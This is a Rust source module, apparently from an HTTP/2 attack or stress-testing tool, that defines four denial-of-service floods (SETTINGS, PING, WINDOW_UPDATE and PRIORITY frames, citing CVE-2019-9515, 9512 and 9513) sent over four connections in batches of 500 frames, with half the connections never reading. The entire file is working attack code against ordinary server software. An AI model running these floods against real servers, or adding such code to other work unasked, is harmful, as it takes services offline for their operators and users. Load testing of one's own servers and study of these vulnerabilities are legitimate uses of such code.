//! Frames that cost the sender nothing and want an answer or some work, as fast as the server reads them. Half of the
//! connections never read.

use std::sync::Arc;

use anyhow::Result;
use futures_util::future::LocalBoxFuture;

use crate::attack::Attack;
use crate::frames::{self, frame};
use crate::raw::flood_all;
use crate::stage::Stage;

const CONNECTIONS: usize = 4;
/// Frames in one write.
const BATCH: u32 = 500;

pub(super) const SETTINGS: Attack =
    Attack::new("settings-flood", "4 connections of SETTINGS frames (CVE-2019-9515)", |stage| {
        // INITIAL_WINDOW_SIZE, which the server must apply to every stream.
        flood(stage, |number| frame(frames::SETTINGS, 0, 0, &[0, 4, 0, 0, 1, number.to_be_bytes()[3]]))
    });

pub(super) const PING: Attack = Attack::new("ping-flood", "4 connections of PING frames (CVE-2019-9512)", |stage| {
    flood(stage, |_| frame(frames::PING, 0, 0, &[7; 8]))
});

pub(super) const WINDOW_UPDATE: Attack =
    Attack::new("window-update-flood", "4 connections of WINDOW_UPDATE frames by one byte", |stage| {
        flood(stage, |_| frame(frames::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
    });

pub(super) const PRIORITY: Attack =
    Attack::new("priority-flood", "4 connections of PRIORITY frames on ever new streams (CVE-2019-9513)", |stage| {
        flood(stage, |number| frame(frames::PRIORITY, 0, (number * 2 + 1) & 0x7fff_ffff, &[0, 0, 0, 0, 16]))
    });

fn flood(stage: Arc<Stage>, one: fn(u32) -> Vec<u8>) -> LocalBoxFuture<'static, Result<()>> {
    Box::pin(async move {
        let batch = |number: u32| (0..BATCH).flat_map(|place| one(number.wrapping_mul(BATCH) + place)).collect();
        flood_all(&stage, CONNECTIONS, &[], batch).await
    })
}
